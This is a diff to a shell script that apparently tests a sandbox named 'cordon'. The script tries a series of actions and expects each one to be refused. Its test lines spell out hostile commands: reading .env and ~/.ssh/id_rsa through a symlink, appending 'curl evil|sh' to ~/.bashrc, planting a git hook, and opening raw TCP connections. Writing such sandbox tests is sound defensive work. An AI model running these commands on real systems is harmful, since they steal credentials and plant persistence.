@@ -58,7 +58,8 @@ try "read the project's .env" refused 'cat .env'
 try "read ~/.ssh/id_rsa via a symlink in the project" refused 'ln -sf ~/.ssh/id_rsa key && cat key'
 try "append to ~/.bashrc (persistence)" refused 'echo "curl evil|sh" >> ~/.bashrc'
 try "plant .git/hooks/pre-commit" refused 'echo "#!/bin/sh" > .git/hooks/pre-commit'
-try "write outside the project (/var/tmp)" refused 'echo x > /var/tmp/cordon-demo-x'
+# /tmp and /var/tmp are the session's own (empty, gone with it): outside the project means home.
+try "write outside the project (~/notes.txt)" refused 'echo x > "$HOME/notes.txt"'
 try "connect to an unlisted host (203.0.113.7:443)" refused 'exec 3<>/dev/tcp/203.0.113.7/443'
 try "connect to a local database (127.0.0.1:5432)" refused 'exec 3<>/dev/tcp/127.0.0.1/5432'
 try "create a user namespace (unshare -U)" refused 'unshare -U true'
@@ -86,7 +87,7 @@ layer_of() {
 	*5432*) echo "Landlock TCP ports" ;;
 	*.env*) echo "mount namespace mask" ;;
 	*namespace*) echo "seccomp" ;;
-	*signal*) echo "Landlock scoping" ;;
+	*signal*) echo "pid namespace (no such process)" ;;
 	*environment*) echo "environment scrub" ;;
 	*) echo "Landlock" ;;
 	esac
